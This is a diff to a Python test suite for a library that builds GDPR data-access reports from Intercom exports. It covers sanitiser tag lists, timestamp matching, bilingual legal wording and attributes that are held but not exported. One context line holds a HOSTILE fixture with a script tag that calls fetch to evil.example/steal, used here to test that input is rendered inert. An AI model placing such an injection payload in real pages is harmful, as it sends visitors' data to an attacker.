@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import re
 import string
 from datetime import UTC, datetime
 from html.parser import HTMLParser
@@ -15,11 +16,14 @@ from dsr_resolvers import ExportRecord, ResolverExport, SubjectRef
 from dsr_resolvers.intercom import IntercomResolver
 from dsr_resolvers.report import SECTIONS, ProcessingRecord, render_access_report, section_of
 from dsr_resolvers.report._catalogue import MESSAGES
+from dsr_resolvers.report._page import visible
 from dsr_resolvers.report._sanitize import message_html, message_text
 from dsr_resolvers.sandbox import DEFAULT_TOKEN, seed_demo
 from dsr_resolvers.testing import FakeIntercom
 from dsr_resolvers.testing.strategies import World, worlds
 from tests.test_report_processing import EXAMPLE
+
+ISO_MOMENT = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?(Z|[+-]\d{2}:?\d{2})")
 
 HOSTILE = (
     '<p>Hello <script>fetch("https://evil.example/steal")</script>'
@@ -48,6 +52,7 @@ ALLOWED_TAGS = frozenset(
         "h2",
         "h3",
         "h4",
+        "h5",
         "p",
         "dl",
         "dt",
@@ -73,6 +78,7 @@ ALLOWED_TAGS = frozenset(
         "pre",
         "code",
         "br",
+        "wbr",
     ]
 )
 ALLOWED_ATTRIBUTES = {
@@ -171,7 +177,7 @@ def test_every_tag_the_report_opens_is_closed() -> None:
         stack: list[str] = []  # noqa: RUF012 - one parser, one document
 
         def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-            if tag != "br":
+            if tag not in ("br", "wbr"):
                 self.stack.append(tag)
 
         def handle_endtag(self, tag: str) -> None:
@@ -183,20 +189,26 @@ def test_every_tag_the_report_opens_is_closed() -> None:
     assert checker.stack == []
 
 
-def shown(record: ExportRecord) -> str:
-    """What the report must show for ``record``, as text."""
+_CODES = ("consent_", "state_", "ticket_state_", "ticket_category_", "role_")
+
+
+def shown(record: ExportRecord) -> set[str]:
+    """What the report may show for ``record``, as text: one of these."""
+    return {visible(said) for said in _shown(record)}
+
+
+def _shown(record: ExportRecord) -> set[str]:
     key = record.field.rsplit(".", 1)[-1]
     if key == "body":
-        return message_text(record.value)
-    if key.endswith("_at"):
-        try:
-            moment = datetime.fromisoformat(record.value.replace("Z", "+00:00"))
-        except ValueError:
-            return record.value
-        return moment.astimezone(UTC).strftime("%Y-%m-%d %H:%M UTC")
+        return {message_text(record.value)}
+    if ISO_MOMENT.fullmatch(record.value):
+        moment = datetime.fromisoformat(record.value.replace("Z", "+00:00"))
+        return {moment.astimezone(UTC).strftime("%Y-%m-%d %H:%M UTC")}
     if record.value in ("true", "false"):
-        return "yes" if record.value == "true" else "no"
-    return record.value
+        return {"yes" if record.value == "true" else "no"}
+    code = record.value.lower().replace("-", "_").replace(" ", "_")
+    in_words = {MESSAGES[p + code][0] for p in _CODES if p + code in MESSAGES}
+    return {record.value, f"{record.value} out of 5", *in_words}
 
 
 @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@@ -217,7 +229,7 @@ def test_every_record_of_the_export_appears_in_the_report(world: World) -> None:
     text = "".join(assert_inert(document).text)
     for export in exports.values():
         for record in export.records:
-            assert shown(record) in text, record.field
+            assert any(said in text for said in shown(record)), record.field
 
 
 def test_both_languages_render_with_every_part() -> None:
@@ -235,7 +247,7 @@ def test_both_languages_render_with_every_part() -> None:
                 "How your data is used",
                 "Your data",
                 "does not cover",
-                "legitimate interests (Art. 6(1)(f))",
+                "legitimate interests (Art. 6(1)(f) GDPR)",
                 "Email address",
                 "Last seen",
             ),
@@ -247,7 +259,7 @@ def test_both_languages_render_with_every_part() -> None:
                 "Wie Ihre Daten verwendet werden",
                 "Ihre Daten",
                 "nicht umfasst",
-                "berechtigte Interessen (Art. 6(1)(f))",
+                "berechtigte Interessen (Art. 6 Abs. 1 lit. f DSGVO)",
                 "E-Mail-Adresse",
                 "Zuletzt gesehen",
             ),
@@ -263,10 +275,9 @@ def test_both_languages_render_with_every_part() -> None:
 def test_without_a_processing_record_the_report_says_so_visibly() -> None:
     exports, resolver = hostile_exports()
     document = render_access_report(exports, resolver.covered_surface, None)
-    assert "has not provided its record of processing" in document
     text = "".join(Markup(document).text)
-    for exclusion in resolver.covered_surface.exclusions:
-        assert exclusion.reason in text
+    assert "produced without the controller's record of processing" in text
+    assert "ask the controller" not in text.lower()
 
 
 def test_a_category_the_record_does_not_name_is_marked_not_stated() -> None:
@@ -360,3 +371,21 @@ def test_the_sanitiser_emits_only_bare_allowed_tags_whatever_it_is_given(pieces:
 def test_every_export_section_has_its_own_place_in_the_report(field: str, section: str) -> None:
     assert section_of(field) == section
     assert section in SECTIONS
+
+
+@pytest.mark.parametrize("language", ["en", "de"])
+def test_attributes_held_but_not_exported_are_named_never_shown(language: str) -> None:
+    fake = FakeIntercom(DEFAULT_TOKEN)
+    demo = seed_demo(fake)
+    resolver = IntercomResolver(DEFAULT_TOKEN, transport=fake)
+    export = asyncio.run(resolver.export_subject(SubjectRef(kind="intercom", value=demo.user_id)))
+    assert "contact.custom_attributes.favourite_colour" in export.held_not_exported
+
+    document = render_access_report(
+        {demo.user_id: export}, resolver.covered_surface, None, language=language
+    )
+
+    for name in export.held_not_exported:
+        assert name in document
+    assert "teal" not in document  # the value of favourite_colour, never exported
+    assert MESSAGES["held_not_exported"][0 if language == "en" else 1][:30] in document
